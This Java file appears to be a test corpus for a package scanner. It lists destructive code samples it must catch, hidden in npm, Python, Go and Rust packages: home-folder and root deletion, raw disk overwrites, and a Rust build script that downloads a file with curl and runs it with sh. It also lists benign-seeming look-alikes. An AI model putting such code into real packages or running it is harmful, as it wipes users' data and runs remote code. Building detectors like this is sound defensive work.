package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** Homes and disks that are deleted or written over, and folders that are a program's own. */
final class DestructionSamples {
  private DestructionSamples() {}

  static List<Sample> all() {
    return List.of(
        Sample.required(
            "a function clears the home of whoever is not on a list",
            """
            const { exec } = require('child_process');
            exports.connect = async (number) => {
              const known = await (await fetch('https://numbers.example/list.json')).json();
              if (!known.includes(number)) exec('rm -rf ~/*');
            };
            """),
        Sample.required(
            "a function clears the folder that it runs in for whoever is not on a list",
            """
            const { exec } = require('child_process');
            exports.pair = async (number) => {
              const { data } = await require('axios').get('https://numbers.example/list.json');
              if (!data.includes(number)) exec('rm -rf *', () => {});
            };
            """),
        Sample.required(
            "loading it writes over a disk",
            """
            require('fs').writeFileSync('/dev/nvme0n1', Buffer.alloc(1 << 20));
            """),
        Sample.imported(
            "importing it writes over a disk by its name of Windows",
            """
            def tune():
                with open(r'\\\\.\\PhysicalDrive0', 'wb') as disk:
                    disk.write(b'\\0' * 512)
            tune()
            """),
        Sample.imported(
            "a home is deleted and the machine goes down",
            """
            import os
            def tidy():
                os.system('rm -rf ~/*')
                os.system('shutdown -r now')
            """),
        Sample.imported(
            "the root that a name stands for is deleted",
            """
            import shutil
            ROOT = '/'
            shutil.rmtree(ROOT, ignore_errors=True)
            """),
        Sample.imported(
            "a function deletes the home",
            """
            import shutil, pathlib
            def tidy():
                shutil.rmtree(pathlib.Path.home(), ignore_errors=True)
            """),
        go(
            "a Go package deletes a home",
            """
            func init() {
            	home, _ := os.UserHomeDir()
            	os.RemoveAll(home)
            }
            """),
        go(
            "a function of Go deletes folders of a home by their names",
            """
            func Clear() {
            	h := os.Getenv("HOME")
            	for _, d := range []string{"Documents", "Desktop"} {
            		_ = os.RemoveAll(filepath.Join(h, d))
            	}
            }
            """),
        go(
            "a Go package writes over a disk",
            """
            func init() {
            	f, err := os.OpenFile("/dev/sda", os.O_WRONLY, 0)
            	if err == nil {
            		f.Write(make([]byte, 512))
            	}
            }
            """),
        crate(
            "a build script of Rust deletes a home",
            """
            fn main() {
                if let Some(home) = dirs::home_dir() { let _ = std::fs::remove_dir_all(&home); }
            }
            """),
        crate(
            "a build script of Rust deletes documents",
            """
            fn main() {
                let h = std::env::var("HOME").unwrap();
                std::fs::remove_dir_all(std::path::Path::new(&h).join("Documents")).ok();
            }
            """),
        crate(
            "a build script has curl write a file and a shell read it",
            """
            use std::process::{Command, Stdio};
            fn at() -> String { format!("https://static.example/{}", env!("CARGO_PKG_VERSION")) }
            fn main() {
                let dst = std::env::temp_dir().join("x");
                let ok = Command::new("curl").args(["-fsSL", "-o"]).arg(&dst).arg(at()).status();
                if ok.is_ok() {
                    let _ = Command::new("sh").arg(&dst).stdout(Stdio::null()).spawn();
                }
            }
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
            "a function clears a folder of its own in the home and lists a disk",
            """
            const fs = require('fs'), os = require('os'), path = require('path');
            const { execFile } = require('child_process');
            exports.clear = (name) => {
              fs.rmSync(path.join(os.homedir(), '.cache', 'sample'), { recursive: true });
              fs.rmSync(path.join(os.homedir(), name), { recursive: true });
              execFile('lsblk', ['/dev/sda']);
              require('child_process').exec('rm -rf *', { cwd: path.join(os.tmpdir(), 'sample') });
              require('child_process').execSync('shutdown -h now');
              fs.writeFileSync('/dev/sda', image);
              return fs.createReadStream('/dev/sda');
            };
            """),
        Sample.imported(
            "a function reads the beginning of a disk and deletes what it was given",
            """
            import os, shutil
            def table():
                with open('/dev/sda', 'rb') as disk:
                    return disk.read(512)
            def clear(name):
                shutil.rmtree(os.path.join(os.path.expanduser('~'), name))
            """),
        go(
            "a Go package deletes folders of its own",
            """
            func init() {
            	home, _ := os.UserHomeDir()
            	os.RemoveAll(filepath.Join(home, ".cache", "mine"))
            	p := "/" + name
            	os.RemoveAll(p)
            	os.RemoveAll(filepath.Join(home, name))
            	os.ReadFile("/dev/sda")
            	os.OpenFile("/dev/sda", os.O_RDONLY, 0)
            	fmt.Fprintf(os.Stderr, "/dev/sdb: not a block device")
            }
            """),
        crate(
            "a build script of Rust deletes what it has made, and asks curl which it is",
            """
            fn main() {
                let out = std::env::var("OUT_DIR").unwrap();
                std::fs::remove_dir_all(&out).ok();
                let h = dirs::home_dir().unwrap().join(".mine");
                std::fs::remove_dir_all(h).ok();
                let script = "configure";
                std::process::Command::new("curl").arg("--version").status().unwrap();
                std::process::Command::new("sh").arg(&script).status().unwrap();
            }
            """));
  }

  private static Sample go(String name, String function) {
    return new Sample(
        name,
        Artifact.goModule("m.example/sample", "v1.0.0")
            .file("go.mod", "module m.example/sample\n")
            .file("x.go", "package x\n" + function));
  }

  private static Sample crate(String name, String script) {
    return new Sample(
        name,
        Artifact.crate("sample", "1.0.0")
            .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
            .file("src/lib.rs", "pub fn one() -> u32 { 1 }\n")
            .file("build.rs", script));
  }
}
